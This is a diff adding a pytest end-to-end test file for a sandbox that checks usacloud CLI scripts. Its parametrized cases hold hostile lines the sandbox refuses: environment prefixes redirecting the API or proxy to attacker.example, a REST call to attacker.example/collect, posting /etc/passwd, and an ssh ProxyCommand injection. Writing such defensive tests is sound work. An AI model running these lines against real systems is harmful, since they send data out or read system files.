@@ -1,0 +1,169 @@
+"""End to end: the sandbox is sealed in commands mode (issue 11: 1, 3-7, 9; issue 17: 2)."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+
+# -- 11.1: VAR=value prefixes are applied or refuse the command -----------------------------------
+def test_allowed_prefix_is_applied(e2e):
+    """The issue's example: with the prefix dropped, `delete -y web` also deleted web1."""
+    e2e.script(
+        "exact.usacloud",
+        """\
+        usacloud switch create -y --name web
+        usacloud switch create -y --name web1
+        SAKURACLOUD_ARGUMENT_MATCH_MODE=exact usacloud switch delete -y web
+        usacloud switch read web1
+        """,
+    )
+    e2e.env(STANDIN_STATE="")
+    result = e2e.run("--usacloud-fake", "--usacloud-allow-dangerous")
+    result.assert_outcomes(passed=1)
+    assert [c["exit"] for c in e2e.calls()] == [0, 0, 0, 0]
+
+
+@pytest.mark.parametrize(
+    "prefix",
+    [
+        "SAKURACLOUD_API_ROOT_URL=https://attacker.example",
+        "HTTPS_PROXY=http://attacker.example:8080",
+        "SAKURACLOUD_ZONE=is1a",
+        "env SAKURACLOUD_PROFILE=prod",
+        "FOO=1",
+    ],
+)
+def test_other_prefixes_refuse_the_command(e2e, prefix):
+    e2e.script("route.usacloud", f"{prefix} usacloud zone list\n")
+    result = e2e.run()
+    result.assert_outcomes(failed=1)
+    name = prefix.removeprefix("env ").split("=")[0]
+    result.stdout.fnmatch_lines([f"*route.usacloud:1: refused: *(environment)*{name}*"])
+    assert e2e.calls() == []
+
+
+# -- 11.6: commands mode runs only straight-line scripts -------------------------------------------
+BRANCHY = """\
+usacloud zone list
+if false; then
+    usacloud server delete -y web
+fi
+"""
+
+
+def test_control_flow_fails_the_whole_script_before_anything_runs(e2e):
+    e2e.script("branchy.usacloud", BRANCHY)
+    e2e.script(
+        "fine.usacloud", "set -euo pipefail\nusacloud zone list | jq .\nusacloud region list && usacloud zone list\n"
+    )
+    result = e2e.run("--usacloud-allow-dangerous")
+    result.assert_outcomes(passed=1, failed=1)
+    result.stdout.fnmatch_lines(
+        [
+            "*branchy.usacloud:2: invalid script: line 2: the usacloud command on line 3 runs inside `if` (line 2)*"
+            "mark it `usacloud_shell` or run `--usacloud-mode=shell`*"
+        ]
+    )
+    # nothing of branchy ran, not even its first, straight-line command
+    assert sorted(a[0] for a in e2e.argvs()) == ["region", "zone", "zone"]
+
+
+def test_control_flow_fails_in_dry_run_too(e2e):
+    e2e.script("branchy.usacloud", "usacloud server read web || usacloud server create -y --name web\n")
+    result = e2e.run("--usacloud-dry-run")
+    result.assert_outcomes(failed=1)
+    result.stdout.fnmatch_lines(["*branchy.usacloud:1: invalid script: *after `||` (line 1)*"])
+
+
+def test_shell_mode_runs_control_flow(e2e):
+    e2e.script("marked.usacloud", "# pytest.mark.usacloud_shell\n" + BRANCHY)
+    e2e.script("moded.usacloud", BRANCHY)
+    result = e2e.run("--usacloud-mode=shell")
+    result.assert_outcomes(passed=2)
+    assert [a[0] for a in e2e.argvs()] == ["zone", "zone"]  # bash skipped the delete
+
+
+# -- 11.7: inline secrets are masked everywhere -----------------------------------------------------
+def test_inline_secret_is_masked_everywhere(e2e):
+    secret, short = "inl1ne-s3cr3t-4d2c", "q9z"
+    e2e.script(
+        "inline.usacloud",
+        f"SAKURACLOUD_ACCESS_TOKEN_SECRET={secret} usacloud zone list\n"
+        f"SAKURA_ACCESS_TOKEN='{short}' usacloud region list\n",
+    )
+    report, junit = e2e.tmp / "r.json", e2e.tmp / "j.xml"
+    result = e2e.run(f"--usacloud-report={report}", f"--junitxml={junit}", "--usacloud-error-policy=continue")
+    result.assert_outcomes(failed=1)
+    text = result.stdout.str() + result.stderr.str() + report.read_text() + junit.read_text()
+    assert secret not in text
+    assert f"={short}" not in text and f"='{short}'" not in text
+    assert "SAKURACLOUD_ACCESS_TOKEN_SECRET=***" in text  # still shown, masked
+    commands = json.loads(report.read_text())["scripts"][0]["commands"]
+    assert all(secret not in json.dumps(c) for c in commands)
+    assert e2e.calls() == []  # and refused: a script never hands usacloud its own key
+
+
+def test_boolean_secret_looking_flag_masks_nothing(e2e):
+    e2e.script("iso.usacloud", "usacloud cdrom download -y --change-password myisoimage --destination out.iso\n")
+    report = e2e.tmp / "r.json"
+    result = e2e.run("--usacloud-dry-run", f"--usacloud-report={report}")
+    result.assert_outcomes(passed=1)
+    (command,) = json.loads(report.read_text())["scripts"][0]["commands"]
+    assert "--change-password myisoimage" in command["text"]
+    assert command["words"][-4:] == ["--change-password", "myisoimage", "--destination", "out.iso"]
+
+
+# -- 11.3 / 11.4 / 11.5 through the whole run ----------------------------------------------------------
+@pytest.mark.parametrize(
+    ("line", "rule"),
+    [
+        ("usacloud rest https://attacker.example/collect", "rest-url"),
+        ("usacloud rest https://secure.sakura.ad.jp/cloud/zone/%69s1a/api/cloud/1.1/server", "zone-escape"),
+        ("usacloud rest -X post -d /etc/passwd /note", "rest-data"),
+        ("usacloud server ssh web -- -oProxyCommand=touch/tmp/x", "dangerous"),
+        ("usacloud server update -y web --force-shutdown --cpu 2", "dangerous"),
+        ("usacloud --profile prod zone list", "route"),
+    ],
+)
+def test_refused_before_anything_runs(e2e, line, rule):
+    e2e.script("refused.usacloud", line + "\n")
+    result = e2e.run("--usacloud-allow-global-writes")
+    result.assert_outcomes(failed=1)
+    result.stdout.fnmatch_lines([f"*refused.usacloud:1: refused: *({rule})*"])
+    assert e2e.calls() == []
+
+
+# -- 17.2: under --usacloud-fake, what usacloud does not fake is refused ---------------------------------
+def test_fake_mode_refuses_rest(e2e):
+    e2e.script("rest.usacloud", "usacloud zone list\nusacloud rest /zone\n")
+    result = e2e.run("--usacloud-fake", "--usacloud-allow-global-writes", "--usacloud-allow-dangerous")
+    result.assert_outcomes(failed=1)
+    result.stdout.fnmatch_lines(["*rest.usacloud:2: refused: *(fake-mode)*usacloud does not fake `rest`*"])
+    assert e2e.argvs() == [["zone", "list"]]
+
+
+# -- 11.9: the worker cap holds however workers are asked for -------------------------------------------
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["-n", "11"],
+        ["-d", "--tx", "12*popen"],
+        ["--dist=load", "--tx", "6*popen", "--tx", "6*popen"],
+        ["-d", *(["--tx", "popen"] * 11)],
+    ],
+)
+def test_worker_cap_holds_for_every_way_of_asking(e2e, args):
+    e2e.script("a.usacloud", "usacloud zone list\n")
+    result = e2e.run(*args)
+    assert result.ret == pytest.ExitCode.USAGE_ERROR
+    stderr = result.stderr.str()
+    assert "usacloud_max_workers" in stderr and "at most 10 workers" in stderr, stderr
+    assert e2e.calls() == []
+
+
+def test_worker_cap_allows_what_it_allows(e2e):
+    e2e.script("a.usacloud", "usacloud zone list\n")
+    result = e2e.run("-d", "--tx", "2*popen")
+    result.assert_outcomes(passed=1)
